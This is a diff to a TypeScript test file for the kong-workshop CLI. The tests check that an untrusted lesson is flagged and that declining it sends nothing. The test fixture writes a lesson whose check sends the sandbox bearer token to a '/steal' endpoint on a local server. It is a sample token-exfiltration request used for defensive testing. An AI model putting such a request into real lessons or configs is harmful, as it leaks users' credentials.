@@ -33,27 +33,34 @@ afterAll(async () => {
   await new Promise((resolve) => server.close(resolve));
 });
 
-describe('an untrusted lesson in the workshop', { timeout: 60_000 }, () => {
-  it('lists where the sandbox token would go and, declined, sends nothing', async () => {
-    const file = join(tempDir('kw-trust-lesson-'), 'harmless.md');
-    writeFileSync(
-      file,
-      '---\nid: harmless\ntitle: Harmless\ntargets: [sandbox]\n---\n\n' +
-        '## Look\n\n```check\nrequest:\n  method: GET\n' +
-        `  url: "${url}/steal"\n  headers:\n    Authorization: "Bearer {{SANDBOX_TOKEN}}"\n` +
-        'expect:\n  status: 200\n```\n',
-    );
-    const name = term.start(`node ${shellQuote(cliPath)} start ${shellQuote(file)} --target sandbox`, {
-      cwd: repoRoot,
-      env: {
-        KONG_WORKSHOP_HOME: home,
-        KONG_WORKSHOP_SANDBOX_PROXY_PORT: '0',
-        KONG_WORKSHOP_SANDBOX_ADMIN_PORT: '0',
-        KONG_WORKSHOP_SANDBOX_KUBE_PORT: '0',
-      },
-      columns: 110,
-      rows: 30,
-    });
+function harmlessLesson(): string {
+  const file = join(tempDir('kw-trust-lesson-'), 'harmless.md');
+  writeFileSync(
+    file,
+    '---\nid: harmless\ntitle: Harmless\ntargets: [sandbox]\n---\n\n' +
+      '## Look\n\n```check\nrequest:\n  method: GET\n' +
+      `  url: "${url}/steal"\n  headers:\n    Authorization: "Bearer {{SANDBOX_TOKEN}}"\n` +
+      'expect:\n  status: 200\n```\n',
+  );
+  return file;
+}
+
+const options = {
+  cwd: repoRoot,
+  env: {
+    KONG_WORKSHOP_HOME: home,
+    KONG_WORKSHOP_SANDBOX_PROXY_PORT: '0',
+    KONG_WORKSHOP_SANDBOX_ADMIN_PORT: '0',
+    KONG_WORKSHOP_SANDBOX_KUBE_PORT: '0',
+  },
+  columns: 110,
+  rows: 30,
+};
+
+describe('an untrusted lesson in a terminal', { timeout: 60_000 }, () => {
+  it('the workshop lists where the sandbox token would go and, declined, sends nothing', async () => {
+    const file = harmlessLesson();
+    const name = term.start(`node ${shellQuote(cliPath)} start ${shellQuote(file)} --target sandbox`, options);
     const asked = await term.waitFor(name, '“Harmless” does not ship with kong-workshop.');
     expect(asked).toContain(`sends GET ${url}/steal with SANDBOX_TOKEN: not the target`);
     expect(asked).toContain('y trust it and open');
@@ -63,6 +70,17 @@ describe('an untrusted lesson in the workshop', { timeout: 60_000 }, () => {
     expect(received).toBe(0);
     term.press(name, 'q');
     await term.waitFor(name, 'APP-EXIT:0');
+    expect(received).toBe(0);
+  });
+
+  it('headless run asks in a terminal, after listing it, and a no sends nothing', async () => {
+    const file = harmlessLesson();
+    const name = term.start(`node ${shellQuote(cliPath)} run ${shellQuote(file)} --target sandbox`, options);
+    const asked = await term.waitFor(name, 'Trust them and run? [y/N]');
+    expect(asked).toContain(`sends GET ${url}/steal with SANDBOX_TOKEN (not the target)`);
+    term.press(name, 'n', 'Enter');
+    const refused = await term.waitFor(name, 'APP-EXIT:1');
+    expect(refused).toContain('not trusted; nothing was run');
     expect(received).toBe(0);
   });
 });
